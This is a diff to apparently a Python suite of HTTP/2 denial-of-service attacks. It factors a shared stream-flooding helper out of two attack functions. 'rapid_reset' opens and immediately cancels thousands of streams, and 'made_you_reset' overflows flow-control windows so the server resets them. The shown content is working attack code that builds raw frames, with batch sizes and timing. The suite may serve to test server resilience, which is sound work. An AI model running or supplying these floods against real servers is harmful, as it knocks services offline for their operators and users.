@@ -259,29 +259,26 @@ def unread_downloads(t):
 
 # --- HTTP/2: work without use ---------------------------------------------------------------------
 
-@attack
-def rapid_reset(t):
+def ended(t, end, step, pause, frame):
+	"""Streams up to end, each begun and ended by a frame of the client; step / 2 of them at once."""
 	with t.raw() as raw:
 		raw.send(raw.headers(1, raw.head("/still/disk.bin")))
 		block = raw.encoder.encode(raw.head("/still/disk.bin"))
-		for start in range(3, 40001, 200):
-			raw.send_bytes(b"".join(raw.headers(n, block=block).serialize()
-				+ hf.RstStreamFrame(n, error_code=8).serialize()
-				for n in range(start, start + 200, 2)))
-			yield 0.02
+		for start in range(3, end, step):
+			raw.send_bytes(b"".join(raw.headers(n, block=block).serialize() + frame(n).serialize()
+				for n in range(start, start + step, 2)))
+			yield pause
+
+
+@attack
+def rapid_reset(t):
+	return ended(t, 40001, 200, 0.02, lambda n: hf.RstStreamFrame(n, error_code=8))
 
 
 @attack
 def made_you_reset(t):
 	"""The server resets the streams itself: windows overflow."""
-	with t.raw() as raw:
-		raw.send(raw.headers(1, raw.head("/still/disk.bin")))
-		block = raw.encoder.encode(raw.head("/still/disk.bin"))
-		for start in range(3, 20001, 100):
-			raw.send_bytes(b"".join(raw.headers(n, block=block).serialize()
-				+ hf.WindowUpdateFrame(n, window_increment=2**31 - 1).serialize()
-				for n in range(start, start + 100, 2)))
-			yield 0.05
+	return ended(t, 20001, 100, 0.05, lambda n: hf.WindowUpdateFrame(n, window_increment=2**31 - 1))
 
 
 @attack
